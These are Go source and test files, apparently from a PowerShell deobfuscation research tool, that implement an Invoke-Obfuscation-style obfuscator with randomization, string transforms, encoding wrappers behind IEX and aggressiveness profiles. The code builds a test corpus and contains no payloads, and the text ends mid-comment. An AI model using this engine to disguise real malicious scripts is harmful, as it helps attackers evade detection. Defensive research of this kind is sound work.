			if r >= 'a' && r <= 'z' || r >= 'A' && r <= 'Z' {
				letters++
				switch r {
				case 'a', 'e', 'i', 'o', 'u', 'A', 'E', 'I', 'O', 'U':
					vowels++
				}
			}
		}
	}
	if letters == 0 || float64(vowels)/float64(letters) > 0.1 {
		t.Errorf("random identifiers too vowel-rich: %d/%d", vowels, letters)
	}
}

func TestNotApplicableCases(t *testing.T) {
	o := New(1)
	if _, err := o.Apply("write-host hello", RandomName); err == nil {
		t.Error("random-name on variable-free script should not apply")
	}
	if _, err := o.Apply("write-host hello", Alias); err == nil {
		t.Error("alias with no aliasable command should not apply")
	}
	if _, err := o.Apply("", EncodeBase64); err == nil {
		t.Error("empty script should not apply")
	}
}
