package obfuscate_test

import (
	"strings"
	"testing"

	"github.com/invoke-deobfuscation/invokedeob/internal/core"
	_ "github.com/invoke-deobfuscation/invokedeob/internal/frontends"
	"github.com/invoke-deobfuscation/invokedeob/internal/obfuscate"
)

// expectedRoundTripFailures is the explicit carve-out table for
// Table II: techniques the engine is KNOWN not to round-trip, with the
// documented reason. The paper's Table II footnote marks whitespace
// encoding as the one technique its tool does not recover: the decoder
// accumulates the result inside a loop, and variable tracing refuses
// to fold loop-carried assignments (§V-C). Keeping the exclusion in a
// table makes both kinds of drift visible: an accidental fix fails the
// test below ("unexpectedly recovered — remove it from the table") and
// a regression in any other technique fails it as an ordinary
// not-recovered error.
var expectedRoundTripFailures = map[obfuscate.Technique]string{
	obfuscate.EncodeWhitespace: "Table II footnote / §V-C: loop-carried decoder assignment defeats variable tracing",
}

// TestRoundTrip verifies the central claim of Table II: for every
// technique outside the expected-failure table, obfuscating
// `write-host hello` and deobfuscating recovers the command.
func TestRoundTrip(t *testing.T) {
	for _, tech := range obfuscate.All() {
		tech := tech
		// Ticking/alias/random-name need material to transform; use a
		// script where every technique is applicable.
		script := "write-host hello"
		want := "write-host hello"
		switch tech {
		case obfuscate.RandomName:
			script = "$msg = 'hello'\nwrite-host $msg"
			want = "'hello'"
		case obfuscate.Alias:
			script = "write-output hello"
			want = "write-output hello"
		}
		t.Run(string(tech), func(t *testing.T) {
			o := obfuscate.New(42)
			obf, err := o.Apply(script, tech)
			if err != nil {
				t.Fatalf("Apply: %v", err)
			}
			d := core.New(core.Options{})
			res, err := d.Deobfuscate(obf)
			if err != nil {
				t.Fatalf("Deobfuscate: %v", err)
			}
			got := strings.ToLower(res.Script)
			recovered := strings.Contains(got, want)
			t.Logf("tech=%s\nOBF: %s\nOUT: %s", tech, truncate(obf), truncate(res.Script))
			if reason, expectFail := expectedRoundTripFailures[tech]; expectFail {
				if recovered {
					t.Errorf("expected failure (%s) unexpectedly recovered — if the engine now handles %s, remove it from expectedRoundTripFailures", reason, tech)
				}
				return
			}
			if !recovered {
				t.Errorf("not recovered")
			}
		})
	}
}

func truncate(s string) string {
	if len(s) > 300 {
		return s[:300] + "..."
	}
	return s
}
