package obfuscate_test

import (
	"strings"
	"testing"

	"github.com/invoke-deobfuscation/invokedeob/internal/core"
	_ "github.com/invoke-deobfuscation/invokedeob/internal/frontends"
	"github.com/invoke-deobfuscation/invokedeob/internal/obfuscate"
)

// TestRoundTrip verifies the central claim of Table II: for every
// technique except whitespace encoding, obfuscating `write-host hello`
// and deobfuscating recovers the command.
func TestRoundTrip(t *testing.T) {
	for _, tech := range obfuscate.All() {
		tech := tech
		// Ticking/alias/random-name need material to transform; use a
		// script where every technique is applicable.
		script := "write-host hello"
		want := "write-host hello"
		switch tech {
		case obfuscate.RandomName:
			script = "$msg = 'hello'\nwrite-host $msg"
			want = "'hello'"
		case obfuscate.Alias:
			script = "write-output hello"
			want = "write-output hello"
		}
		t.Run(string(tech), func(t *testing.T) {
			o := obfuscate.New(42)
			obf, err := o.Apply(script, tech)
			if err != nil {
				t.Fatalf("Apply: %v", err)
			}
			d := core.New(core.Options{})
			res, err := d.Deobfuscate(obf)
			if err != nil {
				t.Fatalf("Deobfuscate: %v", err)
			}
			got := strings.ToLower(res.Script)
			recovered := strings.Contains(got, want)
			t.Logf("tech=%s\nOBF: %s\nOUT: %s", tech, truncate(obf), truncate(res.Script))
			if tech == obfuscate.EncodeWhitespace {
				if recovered {
					t.Log("note: whitespace encoding unexpectedly recovered")
				}
				return // paper's known limitation
			}
			if !recovered {
				t.Errorf("not recovered")
			}
		})
	}
}

func truncate(s string) string {
	if len(s) > 300 {
		return s[:300] + "..."
	}
	return s
}
