package obfuscate

import (
	"errors"
	"testing"
)

// TestApplyStackDetailedAccounting verifies that every requested
// technique lands either in the applied list or in the skipped list
// with a concrete reason — callers can now distinguish "skipped as not
// applicable" from "applied".
func TestApplyStackDetailedAccounting(t *testing.T) {
	// A script with no variables and no known-alias cmdlets, so
	// random-name and alias must be skipped while concat and base64
	// apply.
	src := "write-host 'hello world'"
	stack := []Technique{RandomName, Alias, Concat, EncodeBase64}
	out, applied, skipped, err := New(3).ApplyStackDetailed(src, stack)
	if err != nil {
		t.Fatalf("ApplyStackDetailed: %v", err)
	}
	if out == "" || out == src {
		t.Fatalf("no obfuscation took place: %q", out)
	}
	if len(applied)+len(skipped) != len(stack) {
		t.Fatalf("accounting leak: %d applied + %d skipped != %d requested",
			len(applied), len(skipped), len(stack))
	}
	wantApplied := map[Technique]bool{Concat: true, EncodeBase64: true}
	for _, tech := range applied {
		if !wantApplied[tech] {
			t.Errorf("unexpected applied technique %s", tech)
		}
	}
	wantSkipped := map[Technique]string{
		RandomName: "no renameable user variables",
		Alias:      "no canonical cmdlet names with known aliases",
	}
	if len(skipped) != len(wantSkipped) {
		t.Fatalf("skipped = %v, want %v", skipped, wantSkipped)
	}
	for _, s := range skipped {
		want, ok := wantSkipped[s.Technique]
		if !ok {
			t.Errorf("unexpected skip of %s (%s)", s.Technique, s.Reason)
			continue
		}
		if s.Reason != want {
			t.Errorf("skip reason for %s = %q, want %q", s.Technique, s.Reason, want)
		}
	}
}

// TestApplyStackMatchesDetailed pins that the legacy ApplyStack view
// is exactly the detailed result minus skip accounting.
func TestApplyStackMatchesDetailed(t *testing.T) {
	src := "$a = 'value123'\nwrite-output $a"
	stack := []Technique{RandomName, Reverse, EncodeHex}
	out1, applied1, err1 := New(11).ApplyStack(src, stack)
	out2, applied2, _, err2 := New(11).ApplyStackDetailed(src, stack)
	if err1 != nil || err2 != nil {
		t.Fatalf("errors: %v / %v", err1, err2)
	}
	if out1 != out2 {
		t.Fatal("ApplyStack and ApplyStackDetailed outputs diverge")
	}
	if len(applied1) != len(applied2) {
		t.Fatal("applied lists diverge")
	}
}

// TestSkipReasonFallback covers an unwrapped ErrNotApplicable.
func TestSkipReasonFallback(t *testing.T) {
	if got := skipReason(ErrNotApplicable); got != "not applicable" {
		t.Errorf("skipReason(bare) = %q", got)
	}
	if got := skipReason(notApplicable("empty script")); got != "empty script" {
		t.Errorf("skipReason(wrapped) = %q", got)
	}
	if !errors.Is(notApplicable("x"), ErrNotApplicable) {
		t.Error("notApplicable must wrap ErrNotApplicable")
	}
}
