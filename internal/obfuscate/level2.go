package obfuscate

import (
	"fmt"
	"strings"

	"github.com/invoke-deobfuscation/invokedeob/internal/pstoken"
)

// quote renders a single-quoted PowerShell literal.
func quote(s string) string {
	return "'" + strings.ReplaceAll(s, "'", "''") + "'"
}

// stringTransform rewrites single-quoted string literals using fn
// (which returns an expression evaluating to the original value). When
// the script has no usable literals, the whole script text is
// transformed and wrapped in Invoke-Expression, the way
// Invoke-Obfuscation token-obfuscates entire commands.
func (o *Obfuscator) stringTransform(src string, fn func(value string) (string, bool)) (string, error) {
	toks, err := pstoken.Tokenize(src)
	if err != nil {
		return "", err
	}
	out := src
	changed := false
	for i := len(toks) - 1; i >= 0; i-- {
		tok := toks[i]
		if tok.Type != pstoken.String || tok.Kind != pstoken.SingleQuoted {
			continue
		}
		if len(tok.Content) < 4 || strings.ContainsAny(tok.Content, "\n\r") {
			continue
		}
		expr, ok := fn(tok.Content)
		if !ok {
			continue
		}
		out = out[:tok.Start] + "(" + expr + ")" + out[tok.End():]
		changed = true
	}
	if changed {
		return out, nil
	}
	// No string literals: obfuscate the script text itself behind IEX.
	if strings.ContainsAny(src, "\r") || len(src) > 1<<16 {
		return "", notApplicable("no transformable string literal; script has carriage returns or exceeds 64KiB")
	}
	expr, ok := fn(strings.TrimSpace(src))
	if !ok {
		return "", notApplicable("no transformable string literal and the transform refused the whole script")
	}
	return o.iexPrefix() + " (" + expr + ")", nil
}

// splitPoints cuts value into 2–5 random non-empty pieces.
func (o *Obfuscator) splitPieces(value string) []string {
	n := len(value)
	parts := o.randRange(2, 5)
	if parts > n {
		parts = n
	}
	cuts := map[int]bool{}
	for len(cuts) < parts-1 {
		cuts[o.randRange(1, n-1)] = true
	}
	var idx []int
	for i := 1; i < n; i++ {
		if cuts[i] {
			idx = append(idx, i)
		}
	}
	var pieces []string
	last := 0
	for _, i := range idx {
		pieces = append(pieces, value[last:i])
		last = i
	}
	pieces = append(pieces, value[last:])
	return pieces
}

// concatString renders value as 'p1'+'p2'+...
func (o *Obfuscator) concatString(value string) (string, bool) {
	if len(value) < 2 {
		return "", false
	}
	pieces := o.splitPieces(value)
	quoted := make([]string, len(pieces))
	for i, p := range pieces {
		quoted[i] = quote(p)
	}
	return strings.Join(quoted, "+"), true
}

// reorderString renders value as "{2}{0}{1}" -f 'c','a','b'.
func (o *Obfuscator) reorderString(value string) (string, bool) {
	if len(value) < 2 || strings.ContainsAny(value, "{}`\"$") {
		return "", false
	}
	pieces := o.splitPieces(value)
	n := len(pieces)
	perm := o.rng.Perm(n) // args[j] = pieces[perm[j]]
	posOf := make([]int, n)
	for j, orig := range perm {
		posOf[orig] = j
	}
	var format strings.Builder
	for i := 0; i < n; i++ {
		fmt.Fprintf(&format, "{%d}", posOf[i])
	}
	argList := make([]string, n)
	for j := 0; j < n; j++ {
		argList[j] = quote(pieces[perm[j]])
	}
	return "\"" + format.String() + "\" -f " + strings.Join(argList, ","), true
}

// markerAlphabet provides characters for replace markers.
const markerAlphabet = "ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnpqrstuvwxyz0123456789"

func (o *Obfuscator) randomMarker(avoid string) string {
	for tries := 0; tries < 32; tries++ {
		var sb strings.Builder
		for i := 0; i < 3; i++ {
			sb.WriteByte(markerAlphabet[o.rng.Intn(len(markerAlphabet))])
		}
		m := sb.String()
		if !strings.Contains(avoid, m) {
			return m
		}
	}
	return "q0Z"
}

// replaceString renders value as ('v..m..').Replace('m','c'), hiding
// one character behind a marker like the paper's RepLACe example.
func (o *Obfuscator) replaceString(value string) (string, bool) {
	if len(value) < 3 {
		return "", false
	}
	// Choose the most frequent character to hide.
	counts := map[rune]int{}
	for _, r := range value {
		if r < 128 && r != '\'' {
			counts[r]++
		}
	}
	var target rune
	best := 0
	for r, c := range counts {
		// Deterministic tie-break on the rune keeps generation
		// reproducible across map iteration orders.
		if c > best || (c == best && best > 0 && r < target) {
			best = c
			target = r
		}
	}
	if best == 0 {
		return "", false
	}
	marker := o.randomMarker(value)
	encoded := strings.ReplaceAll(value, string(target), marker)
	return "(" + quote(encoded) + ").Replace(" + quote(marker) + "," + quote(string(target)) + ")", true
}

// reverseString renders value as -join ('eulav'[N..0]).
func (o *Obfuscator) reverseString(value string) (string, bool) {
	if len(value) < 2 {
		return "", false
	}
	runes := []rune(value)
	for i, j := 0, len(runes)-1; i < j; i, j = i+1, j-1 {
		runes[i], runes[j] = runes[j], runes[i]
	}
	reversed := string(runes)
	return fmt.Sprintf("-join (%s[%d..0])", quote(reversed), len(runes)-1), true
}
