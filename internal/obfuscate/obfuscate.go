// Package obfuscate implements a PowerShell obfuscator covering every
// technique in the paper's Table II (the Invoke-Obfuscation-style
// toolbox): L1 randomization (ticking, whitespacing, random case,
// random names, aliases), L2 string transformations (concatenate,
// reorder, replace, reverse) and L3 encodings (numeric, Base64,
// whitespace, special characters, bxor, SecureString, compression).
//
// The obfuscator is deterministic for a given seed, which keeps the
// generated evaluation corpus reproducible.
package obfuscate

import (
	"errors"
	"fmt"
	"math/rand"
	"strings"

	"github.com/invoke-deobfuscation/invokedeob/internal/psparser"
)

// Technique identifies one obfuscation technique.
type Technique string

// Techniques, grouped by the paper's levels.
const (
	// L1 — randomization: textual/visual only.
	Ticking      Technique = "ticking"
	Whitespacing Technique = "whitespacing"
	RandomCase   Technique = "random-case"
	RandomName   Technique = "random-name"
	Alias        Technique = "alias"
	// L2 — string-related.
	Concat  Technique = "concat"
	Reorder Technique = "reorder"
	Replace Technique = "replace"
	Reverse Technique = "reverse"
	// L3 — encodings.
	EncodeASCII       Technique = "encode-ascii"
	EncodeHex         Technique = "encode-hex"
	EncodeBinary      Technique = "encode-binary"
	EncodeOctal       Technique = "encode-octal"
	EncodeBase64      Technique = "encode-base64"
	EncodeWhitespace  Technique = "encode-whitespace"
	EncodeSpecialChar Technique = "encode-specialchar"
	EncodeBxor        Technique = "encode-bxor"
	SecureString      Technique = "securestring"
	CompressDeflate   Technique = "compress-deflate"
	CompressGzip      Technique = "compress-gzip"
)

// All lists every implemented technique in Table II order.
func All() []Technique {
	return []Technique{
		Ticking, Whitespacing, RandomCase, RandomName, Alias,
		Concat, Reorder, Replace, Reverse,
		EncodeASCII, EncodeHex, EncodeBinary, EncodeOctal,
		EncodeBase64, EncodeWhitespace, EncodeSpecialChar, EncodeBxor,
		SecureString, CompressDeflate, CompressGzip,
	}
}

// Level returns the paper's obfuscation level (1, 2 or 3) of a
// technique.
func Level(t Technique) int {
	switch t {
	case Ticking, Whitespacing, RandomCase, RandomName, Alias:
		return 1
	case Concat, Reorder, Replace, Reverse:
		return 2
	default:
		return 3
	}
}

// ErrNotApplicable reports that a technique cannot be applied to the
// given script (for example, renaming when there are no identifiers).
var ErrNotApplicable = errors.New("obfuscate: technique not applicable")

// notApplicable wraps ErrNotApplicable with the concrete reason, so
// stack-level callers can report why a technique was skipped.
func notApplicable(reason string) error {
	return fmt.Errorf("%w: %s", ErrNotApplicable, reason)
}

// Obfuscator applies techniques with a deterministic random stream.
type Obfuscator struct {
	rng *rand.Rand
}

// New returns an Obfuscator seeded for reproducibility.
func New(seed int64) *Obfuscator {
	return &Obfuscator{rng: rand.New(rand.NewSource(seed))}
}

// Apply obfuscates src with one technique. The result is validated to
// parse; Apply fails rather than emit broken syntax.
func (o *Obfuscator) Apply(src string, t Technique) (string, error) {
	var out string
	var err error
	switch t {
	case Ticking:
		out, err = o.ticking(src)
	case Whitespacing:
		out, err = o.whitespacing(src)
	case RandomCase:
		out, err = o.randomCase(src)
	case RandomName:
		out, err = o.randomName(src)
	case Alias:
		out, err = o.alias(src)
	case Concat:
		out, err = o.stringTransform(src, o.concatString)
	case Reorder:
		out, err = o.stringTransform(src, o.reorderString)
	case Replace:
		out, err = o.stringTransform(src, o.replaceString)
	case Reverse:
		out, err = o.stringTransform(src, o.reverseString)
	case EncodeASCII:
		out, err = o.numericWrap(src, 10)
	case EncodeHex:
		out, err = o.numericWrap(src, 16)
	case EncodeBinary:
		out, err = o.numericWrap(src, 2)
	case EncodeOctal:
		out, err = o.numericWrap(src, 8)
	case EncodeBase64:
		out, err = o.base64Wrap(src)
	case EncodeWhitespace:
		out, err = o.whitespaceWrap(src)
	case EncodeSpecialChar:
		out, err = o.specialCharWrap(src)
	case EncodeBxor:
		out, err = o.bxorWrap(src)
	case SecureString:
		out, err = o.secureStringWrap(src)
	case CompressDeflate:
		out, err = o.compressWrap(src, "deflate")
	case CompressGzip:
		out, err = o.compressWrap(src, "gzip")
	default:
		return "", fmt.Errorf("obfuscate: unknown technique %q", t)
	}
	if err != nil {
		return "", err
	}
	if _, perr := psparser.Parse(out); perr != nil {
		return "", fmt.Errorf("obfuscate: %s produced invalid syntax: %w", t, perr)
	}
	return out, nil
}

// Skip records one requested technique that did not take effect and
// why, so corpus generators and the gauntlet can distinguish "skipped
// as not applicable" from "applied". Reason is the technique's own
// explanation (the detail ErrNotApplicable was wrapped with).
type Skip struct {
	Technique Technique
	Reason    string
}

// ApplyStack applies techniques in order, skipping any that are not
// applicable, and returns the result plus the techniques that took
// effect.
func (o *Obfuscator) ApplyStack(src string, ts []Technique) (string, []Technique, error) {
	out, applied, _, err := o.ApplyStackDetailed(src, ts)
	return out, applied, err
}

// ApplyStackDetailed is ApplyStack with full accounting: every
// requested technique lands either in the applied list or in the
// skipped list with the reason it was not applicable. Any other error
// aborts the stack.
func (o *Obfuscator) ApplyStackDetailed(src string, ts []Technique) (string, []Technique, []Skip, error) {
	cur := src
	var applied []Technique
	var skipped []Skip
	for _, t := range ts {
		next, err := o.Apply(cur, t)
		if err != nil {
			if errors.Is(err, ErrNotApplicable) {
				skipped = append(skipped, Skip{Technique: t, Reason: skipReason(err)})
				continue
			}
			return "", nil, nil, err
		}
		cur = next
		applied = append(applied, t)
	}
	return cur, applied, skipped, nil
}

// skipReason extracts the human-readable detail from a wrapped
// ErrNotApplicable.
func skipReason(err error) string {
	msg := err.Error()
	base := ErrNotApplicable.Error()
	if detail := strings.TrimPrefix(msg, base+": "); detail != msg && detail != "" {
		return detail
	}
	return "not applicable"
}

// randRange returns a value in [lo, hi].
func (o *Obfuscator) randRange(lo, hi int) int {
	if hi <= lo {
		return lo
	}
	return lo + o.rng.Intn(hi-lo+1)
}

// randomIdentifier produces a consonant-heavy random name that fails
// the paper's vowel-ratio test.
func (o *Obfuscator) randomIdentifier() string {
	const consonants = "bcdfghjklmnpqrstvwxz"
	const digits = "0123456789"
	n := o.randRange(6, 12)
	var sb strings.Builder
	for i := 0; i < n; i++ {
		if i > 0 && o.rng.Intn(4) == 0 {
			sb.WriteByte(digits[o.rng.Intn(len(digits))])
			continue
		}
		c := consonants[o.rng.Intn(len(consonants))]
		if o.rng.Intn(2) == 0 {
			c = c - 'a' + 'A'
		}
		sb.WriteByte(c)
	}
	return sb.String()
}
