package obfuscate

import (
	"strings"

	"github.com/invoke-deobfuscation/invokedeob/internal/psnames"
	"github.com/invoke-deobfuscation/invokedeob/internal/pstoken"
)

// rewriteTokens applies fn to each token and rewrites the source in
// reverse order; fn returns the replacement text and whether to apply.
func rewriteTokens(src string, fn func(tok pstoken.Token) (string, bool)) (string, bool, error) {
	toks, err := pstoken.Tokenize(src)
	if err != nil {
		return "", false, err
	}
	out := src
	changed := false
	for i := len(toks) - 1; i >= 0; i-- {
		repl, ok := fn(toks[i])
		if !ok || repl == toks[i].Text {
			continue
		}
		out = out[:toks[i].Start] + repl + out[toks[i].End():]
		changed = true
	}
	return out, changed, nil
}

// tickSafe reports whether a backtick may precede c inside a bare word
// without changing meaning: letters outside the escape set
// (`0`a`b`e`f`n`r`t`u`v).
func tickSafe(c byte) bool {
	if !(c >= 'A' && c <= 'Z' || c >= 'a' && c <= 'z') {
		return false
	}
	switch c {
	case '0', 'a', 'b', 'e', 'f', 'n', 'r', 't', 'u', 'v':
		return false
	}
	return true
}

// insertTicks sprinkles backticks into a bare word.
func (o *Obfuscator) insertTicks(word string) string {
	var sb strings.Builder
	for i := 0; i < len(word); i++ {
		c := word[i]
		if i > 0 && tickSafe(c) && o.rng.Intn(3) == 0 {
			sb.WriteByte('`')
		}
		sb.WriteByte(c)
	}
	return sb.String()
}

// ticking inserts meaningless backticks into command and member names.
func (o *Obfuscator) ticking(src string) (string, error) {
	out, changed, err := rewriteTokens(src, func(tok pstoken.Token) (string, bool) {
		switch tok.Type {
		case pstoken.Command:
			if psnames.IsAlias(tok.Content) && len(tok.Content) <= 3 {
				return o.insertTicks(tok.Text), true
			}
			return o.insertTicks(tok.Text), true
		case pstoken.Member:
			return o.insertTicks(tok.Text), true
		case pstoken.CommandArgument:
			if isLetterWord(tok.Content) {
				return o.insertTicks(tok.Text), true
			}
		}
		return "", false
	})
	if err != nil {
		return "", err
	}
	if !changed {
		return "", notApplicable("no command, member or bare-word tokens to tick")
	}
	return out, nil
}

func isLetterWord(s string) bool {
	if s == "" {
		return false
	}
	for _, r := range s {
		if !(r >= 'a' && r <= 'z' || r >= 'A' && r <= 'Z' || r == '.' || r == '-') {
			return false
		}
	}
	return true
}

// whitespacing inserts random runs of spaces and tabs between tokens.
func (o *Obfuscator) whitespacing(src string) (string, error) {
	toks, err := pstoken.Tokenize(src)
	if err != nil {
		return "", err
	}
	out := src
	lastGap := -1
	for i := len(toks) - 1; i > 0; i-- {
		cur := toks[i]
		prev := toks[i-1]
		if cur.Type == pstoken.NewLine || prev.Type == pstoken.NewLine {
			continue
		}
		// Only widen gaps that already exist so attached syntax
		// (members, indexes) is never broken.
		if prev.End() >= cur.Start {
			continue
		}
		lastGap = cur.Start
		if o.rng.Intn(3) == 0 {
			continue
		}
		pad := strings.Repeat(" ", o.randRange(2, 6))
		if o.rng.Intn(4) == 0 {
			pad += "\t"
		}
		out = out[:cur.Start] + pad + out[cur.Start:]
	}
	if out == src {
		if lastGap < 0 {
			return "", notApplicable("no inter-token gaps to widen")
		}
		// Guarantee at least one widened gap when any gap exists.
		out = out[:lastGap] + strings.Repeat(" ", o.randRange(3, 6)) + out[lastGap:]
	}
	return out, nil
}

// flipCase randomizes the case of letters in s.
func (o *Obfuscator) flipCase(s string) string {
	var sb strings.Builder
	for _, r := range s {
		switch {
		case r >= 'a' && r <= 'z':
			if o.rng.Intn(2) == 0 {
				r = r - 'a' + 'A'
			}
		case r >= 'A' && r <= 'Z':
			if o.rng.Intn(2) == 0 {
				r = r - 'A' + 'a'
			}
		}
		sb.WriteRune(r)
	}
	return sb.String()
}

// randomCase randomizes case of case-insensitive tokens.
func (o *Obfuscator) randomCase(src string) (string, error) {
	out, changed, err := rewriteTokens(src, func(tok pstoken.Token) (string, bool) {
		switch tok.Type {
		case pstoken.Command, pstoken.Keyword, pstoken.Member,
			pstoken.CommandParameter, pstoken.Variable, pstoken.TypeLiteral,
			pstoken.Operator:
			return o.flipCase(tok.Text), true
		case pstoken.CommandArgument:
			// Only type-name arguments (Net.WebClient) are
			// case-insensitive; flipping ordinary bare words would
			// change the string value they pass.
			if strings.Contains(tok.Content, ".") && isLetterWord(tok.Content) {
				return o.flipCase(tok.Text), true
			}
		}
		return "", false
	})
	if err != nil {
		return "", err
	}
	if !changed {
		return "", notApplicable("no case-insensitive tokens")
	}
	return out, nil
}

// protectedVarNames must never be renamed: PowerShell automatic
// variables (about_Automatic_Variables — renaming $PSScriptRoot or
// $MyInvocation silently changes what the script reads) and preference
// variables (about_Preference_Variables — assigning to a renamed
// $ErrorActionPreference no longer alters behaviour).
var protectedVarNames = map[string]bool{
	"_": true, "$": true, "?": true, "^": true, "args": true,
	"input": true, "this": true, "true": true, "false": true,
	"null": true, "error": true, "matches": true, "pshome": true,
	"home": true, "pwd": true, "host": true, "executioncontext": true,
	"psversiontable": true, "shellid": true, "pid": true, "ofs": true,
	// Automatic variables.
	"psscriptroot": true, "pscommandpath": true, "psboundparameters": true,
	"psitem": true, "myinvocation": true, "pscmdlet": true,
	"psculture": true, "psuiculture": true, "psedition": true,
	"lastexitcode": true, "stacktrace": true, "nestedpromptlevel": true,
	"env": true, "foreach": true, "switch": true, "sender": true,
	"psdebugcontext": true, "pssenderinfo": true, "profile": true,
	// Preference variables.
	"erroractionpreference": true, "progresspreference": true,
	"verbosepreference": true, "warningpreference": true,
	"debugpreference": true, "informationpreference": true,
	"confirmpreference": true, "whatifpreference": true,
}

// randomName renames user variables and functions to random
// consonant-heavy identifiers.
func (o *Obfuscator) randomName(src string) (string, error) {
	toks, err := pstoken.Tokenize(src)
	if err != nil {
		return "", err
	}
	renames := make(map[string]string)
	nameFor := func(name string) (string, bool) {
		lower := strings.ToLower(name)
		if protectedVarNames[lower] || strings.Contains(lower, ":") {
			return "", false
		}
		if r, ok := renames[lower]; ok {
			return r, true
		}
		r := o.randomIdentifier()
		renames[lower] = r
		return r, true
	}
	out := src
	changed := false
	for i := len(toks) - 1; i >= 0; i-- {
		tok := toks[i]
		if tok.Type != pstoken.Variable || strings.HasPrefix(tok.Text, "@") {
			continue
		}
		newName, ok := nameFor(tok.Content)
		if !ok {
			continue
		}
		out = out[:tok.Start] + "$" + newName + out[tok.End():]
		changed = true
	}
	if !changed {
		return "", notApplicable("no renameable user variables")
	}
	return out, nil
}

// reverseAliases maps canonical cmdlets to usable aliases.
var reverseAliases = map[string]string{
	"invoke-expression": "IEX",
	"invoke-webrequest": "iwr",
	"invoke-restmethod": "irm",
	"write-output":      "echo",
	"foreach-object":    "%",
	"where-object":      "?",
	"select-object":     "select",
	"sort-object":       "sort",
	"get-childitem":     "gci",
	"get-content":       "gc",
	"set-content":       "sc",
	"get-process":       "ps",
	"start-process":     "saps",
	"start-sleep":       "sleep",
	"remove-item":       "del",
	"copy-item":         "cp",
	"move-item":         "mv",
	"get-location":      "pwd",
	"set-location":      "cd",
	"get-variable":      "gv",
	"set-variable":      "sv",
	"invoke-command":    "icm",
	"get-command":       "gcm",
	"get-alias":         "gal",
	"measure-object":    "measure",
	"clear-host":        "cls",
	"format-table":      "ft",
	"format-list":       "fl",
	"get-member":        "gm",
	"import-module":     "ipmo",
}

// alias replaces canonical cmdlet names with their aliases.
func (o *Obfuscator) alias(src string) (string, error) {
	out, changed, err := rewriteTokens(src, func(tok pstoken.Token) (string, bool) {
		if tok.Type != pstoken.Command {
			return "", false
		}
		a, ok := reverseAliases[strings.ToLower(tok.Content)]
		if !ok {
			return "", false
		}
		return a, true
	})
	if err != nil {
		return "", err
	}
	if !changed {
		return "", notApplicable("no canonical cmdlet names with known aliases")
	}
	return out, nil
}
