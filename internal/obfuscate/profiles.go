package obfuscate

import (
	"math/rand"
	"strings"
)

// Profile is a named, seeded distribution over technique stacks and
// wrapper depths, mirroring how obfuscation toolkits in the wild
// organize their attack surface (safe < light < balanced < heavy <
// paranoid in aggressiveness). A profile does not obfuscate by itself:
// Stack draws one concrete technique stack from the distribution, and
// Obfuscator.ApplyProfile draws and applies one.
//
// Stacks follow the layering shape observed in real samples (and in
// the corpus generator): inner string transforms and randomization
// first, then the requested number of L3 encoding wrappers, then
// outer transforms on the wrapper's own text so every level stays
// visible in the final sample. Whitespace encoding is deliberately
// absent from every profile pool — it is ~0.1% of wild samples
// (paper §IV-C1) and the known round-trip exclusion; the roundtrip
// expected-failure table covers it instead.
type Profile struct {
	// Name identifies the profile ("safe" ... "paranoid").
	Name string
	// Description is a one-line summary for CLI listings.
	Description string
	// MaxDepth caps the number of L3 wrapper layers this profile
	// stacks. Zero means the profile never wraps.
	MaxDepth int

	l1          []Technique // randomization pool
	l2          []Technique // string-transform pool
	l3          []Technique // encoding-wrapper pool
	innerL2Prob float64     // chance of an L2 transform before wrapping
	innerL1Prob float64     // chance of inner randomization
	innerL1Max  int         // max inner randomization techniques
	interleave  bool        // re-obfuscate between wrapper layers
	outerL2Prob float64     // chance of an L2 transform on the wrapper
	outerL1Min  int         // outer randomization count range
	outerL1Max  int
}

// profiles is ordered by aggressiveness.
var profiles = []*Profile{
	{
		Name:        "safe",
		Description: "textual randomization only: ticking, whitespacing, random case",
		MaxDepth:    0,
		l1:          []Technique{Ticking, Whitespacing, RandomCase},
		outerL1Min:  2, outerL1Max: 3,
	},
	{
		Name:        "light",
		Description: "full L1 randomization, occasional concat, at most one gentle wrapper",
		MaxDepth:    1,
		l1:          []Technique{Ticking, Whitespacing, RandomCase, Alias},
		l2:          []Technique{Concat},
		l3:          []Technique{EncodeBase64, EncodeASCII},
		innerL2Prob: 0.5,
		outerL1Min:  1, outerL1Max: 2,
	},
	{
		Name:        "balanced",
		Description: "the Table I wild mix: L1+L2 inside and outside, up to two wrappers",
		MaxDepth:    2,
		l1:          []Technique{Ticking, Whitespacing, RandomCase, RandomName, Alias},
		l2:          []Technique{Concat, Reorder, Replace, Reverse},
		l3:          []Technique{EncodeBase64, EncodeASCII, EncodeHex, EncodeBxor},
		innerL2Prob: 0.9,
		innerL1Prob: 0.6, innerL1Max: 2,
		outerL2Prob: 0.7,
		outerL1Min:  1, outerL1Max: 3,
	},
	{
		Name:        "heavy",
		Description: "all numeric bases and compression wrappers, up to three layers",
		MaxDepth:    3,
		l1:          []Technique{Ticking, Whitespacing, RandomCase, RandomName, Alias},
		l2:          []Technique{Concat, Reorder, Replace, Reverse},
		l3: []Technique{
			EncodeBase64, EncodeASCII, EncodeHex, EncodeBinary, EncodeOctal,
			EncodeBxor, CompressDeflate, CompressGzip,
		},
		innerL2Prob: 0.95,
		innerL1Prob: 0.8, innerL1Max: 2,
		outerL2Prob: 0.95,
		outerL1Min:  2, outerL1Max: 4,
	},
	{
		Name:        "paranoid",
		Description: "every encoder including SecureString and special characters, re-obfuscated between layers",
		MaxDepth:    3,
		l1:          []Technique{Ticking, Whitespacing, RandomCase, RandomName, Alias},
		l2:          []Technique{Concat, Reorder, Replace, Reverse},
		l3: []Technique{
			EncodeBase64, EncodeASCII, EncodeHex, EncodeBinary, EncodeOctal,
			EncodeBxor, SecureString, EncodeSpecialChar,
			CompressDeflate, CompressGzip,
		},
		innerL2Prob: 1,
		innerL1Prob: 0.9, innerL1Max: 2,
		interleave:  true,
		outerL2Prob: 1,
		outerL1Min:  2, outerL1Max: 4,
	},
}

// Profiles returns every built-in profile, ordered by aggressiveness.
func Profiles() []*Profile {
	out := make([]*Profile, len(profiles))
	copy(out, profiles)
	return out
}

// ProfileNames lists the built-in profile names in aggressiveness
// order.
func ProfileNames() []string {
	names := make([]string, len(profiles))
	for i, p := range profiles {
		names[i] = p.Name
	}
	return names
}

// GetProfile resolves a profile by name, case-insensitively.
func GetProfile(name string) (*Profile, bool) {
	lower := strings.ToLower(strings.TrimSpace(name))
	for _, p := range profiles {
		if p.Name == lower {
			return p, true
		}
	}
	return nil, false
}

// Stack draws one technique stack from the profile's distribution at
// the given wrapper depth (clamped to [0, MaxDepth]). The draw is
